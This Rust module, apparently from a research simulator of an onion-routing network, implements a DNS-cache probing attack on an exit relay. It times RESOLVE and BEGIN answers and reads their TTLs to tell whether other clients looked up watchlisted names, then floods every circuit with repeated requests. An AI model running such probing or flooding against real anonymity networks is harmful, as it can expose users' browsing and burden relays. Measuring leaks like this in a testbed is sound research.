//! DNS probing: an exit resolves names on behalf of all its clients and caches the answers. An attacker asks it for the same names.
//! Does an answer reveal, by its delay or its TTL, whether another client has asked before?

use super::attacker::{Attacker, LineId};
use super::circuits::Circuit;
use super::watchlist::{Probe, Watchlist};
use super::{Attack, AttackTarget, CircuitAt};
use onion::Instant;
use onion::cell::msg::{Begin, BeginFlags, Connected, Resolved};
use onion::cell::relay::RelayCommand;
use onion::cell::{BODY_LEN, Command};
use std::collections::VecDeque;
use std::sync::Arc;

/// Addresses of the attacker, with a link each.
const LINES: usize = 24;

/// Circuits on each link.
const CIRCUITS: u32 = 20;

/// Streams of a circuit.
const STREAMS: u16 = 60_000;

/// A port without a listener: a connection to it costs an exit as much as any other, and ends at once.
const CLOSED_PORT: u16 = 9;

/// First sends one request after another on the first circuit, because such answers reveal most; then floods all circuits with them.
pub(super) struct Prober {
    watchlist: Arc<Watchlist>,
    to_ask: VecDeque<(String, bool)>,
    /// The pending request: since when, and whether another client has asked before.
    asking: Option<(Instant, bool)>,
    circuits: Vec<(Circuit, u16)>,
    names: Vec<String>,
    flooded: usize,
}

impl Prober {
    pub(super) fn new(target: &AttackTarget) -> Self {
        let watchlist = target.watchlist();
        let to_ask: VecDeque<_> = watchlist.all().collect();
        let names = to_ask.iter().map(|(name, _)| name.clone()).collect();
        Self { watchlist, to_ask, asking: None, circuits: Vec::new(), names, flooded: 0 }
    }

    /// Asks for the next name, if no request is pending.
    fn probe(&mut self, attacker: &mut Attacker) {
        let Some((circuit, streams)) = self.circuits.first_mut() else { return };
        if self.asking.is_some() || !attacker.can_send(circuit.line) {
            return;
        }
        let Some((name, was_asked)) = self.to_ask.pop_front() else { return };
        *streams += 1;
        if self.to_ask.len() % 2 == 1 {
            circuit.send(attacker, RelayCommand::RESOLVE, *streams, format!("{name}\0").as_bytes());
        } else {
            let data = begin(&name, self.watchlist.port());
            circuit.send(attacker, RelayCommand::BEGIN, *streams, &data);
        }
        self.asking = Some((attacker.now(), was_asked));
    }

    /// Repeats the names, each by RESOLVE and by BEGIN.
    fn flood(&mut self, attacker: &mut Attacker) {
        for (circuit, streams) in &mut self.circuits {
            // In turn, so that many circuits are used.
            for _ in 0..8 {
                if !attacker.can_send(circuit.line) {
                    break;
                }
                *streams = *streams % STREAMS + 1;
                self.flooded += 1;
                let name = &self.names[self.flooded / 2 % self.names.len().max(1)];
                if self.flooded.is_multiple_of(2) {
                    let data = format!("{name}\0");
                    circuit.send(attacker, RelayCommand::RESOLVE, *streams, data.as_bytes());
                } else {
                    let data = begin(name, CLOSED_PORT);
                    circuit.send(attacker, RelayCommand::BEGIN, *streams, &data);
                }
            }
        }
    }
}

fn begin(host: &str, port: u16) -> Vec<u8> {
    let mut data = Vec::new();
    Begin { host, port, flags: BeginFlags::default() }.encode_into(&mut data);
    data
}

impl Attack for Prober {
    fn act(&mut self, attacker: &mut Attacker) {
        let relay = *attacker.target().relay();
        for line in attacker.keep_via(LINES) {
            if attacker.begun(line) < CIRCUITS && attacker.can_send(line) {
                attacker.begin(line, &[relay]);
            }
        }
        if self.asking.is_none() && self.to_ask.is_empty() {
            self.flood(attacker);
        } else {
            self.probe(attacker);
        }
    }

    fn handle_built(&mut self, _attacker: &mut Attacker, circuit: Circuit) {
        self.circuits.push((circuit, 0));
    }

    fn handle_cell(
        &mut self,
        attacker: &mut Attacker,
        at: CircuitAt,
        command: Command,
        body: &[u8; BODY_LEN],
    ) {
        let (Some((asked_at, was_asked)), Some((circuit, streams))) =
            (self.asking, self.circuits.first_mut())
        else {
            return;
        };
        if (circuit.at(), command) != (at, Command::RELAY) {
            return;
        }
        let Some((what, stream_id, data)) = circuit.open(body) else { return };
        if stream_id != *streams {
            return;
        }
        let ttl_s = match what {
            RelayCommand::RESOLVED => {
                let answers = Resolved::parse(&data).unwrap_or_default();
                let is_address =
                    |(answer, _): &&(Resolved<'_>, u32)| matches!(answer, Resolved::Address(_));
                answers.iter().find(is_address).map(|(_, ttl_s)| *ttl_s)
            }
            RelayCommand::CONNECTED => {
                // The stream is no longer needed.
                circuit.send(attacker, RelayCommand::END, stream_id, &[6]);
                Connected::parse(&data)
                    .ok()
                    .and_then(|connected| connected.to)
                    .map(|(_, ttl_s)| ttl_s)
            }
            // The attacker learns nothing without an answer.
            RelayCommand::END => None,
            _ => return,
        };
        self.asking = None;
        if let Some(ttl_s) = ttl_s {
            let took = attacker.now().saturating_since(asked_at);
            self.watchlist.record(Probe { was_asked, took, ttl_s });
        }
    }

    fn handle_lost(&mut self, line: LineId) {
        self.circuits.retain(|(circuit, _)| circuit.line != line);
        // Its answer will not arrive.
        self.asking = None;
    }
}
